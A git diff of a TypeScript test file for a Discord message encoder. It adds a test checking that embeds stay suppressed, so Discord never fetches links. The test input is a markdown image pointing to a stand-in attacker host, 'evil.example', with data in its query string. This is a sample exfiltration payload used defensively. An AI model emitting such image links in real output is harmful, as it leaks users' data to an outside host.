@@ -1,9 +1,16 @@
+import { MessageFlags } from "discord-api-types/v10";
 import fc from "fast-check";
 import { expect, test } from "vitest";
 import type { Form } from "../../src/core/form.ts";
 import type { Button, Outgoing } from "../../src/core/platform.ts";
 import { buttonId, commandOf, formId, hasKey } from "../../src/platforms/discord/custom-id.ts";
-import { discordMarkdown, encode, MESSAGE_LENGTH, nonceOf } from "../../src/platforms/discord/encode.ts";
+import {
+  discordMarkdown,
+  encode,
+  ephemeral,
+  MESSAGE_LENGTH,
+  nonceOf,
+} from "../../src/platforms/discord/encode.ts";
 import { modalOf, valuesOf } from "../../src/platforms/discord/modal.ts";
 import { faceOf, headerOf } from "../../src/platforms/discord/speaker.ts";
 
@@ -34,7 +41,19 @@ test("a name shows by itself or in a header line, never twice", () => {
     content: "**Mira**\nHi",
     components: [],
     allowed_mentions: { parse: [], replied_user: false },
+    flags: MessageFlags.SuppressEmbeds,
   });
+});
+
+test("a link is never fetched by Discord, wherever it stands and whoever sees it", () => {
+  const link = saying("![](https://evil.example/?said=4711)", {
+    speaker: { name: "Mira", avatar: undefined },
+  });
+  for (const ownName of [true, false]) {
+    const body = encode(link, { ownName, key: "k" });
+    expect(body.flags).toBe(MessageFlags.SuppressEmbeds);
+    expect(ephemeral(body).flags).toBe(MessageFlags.SuppressEmbeds | MessageFlags.Ephemeral);
+  }
 });
 
 test.each([
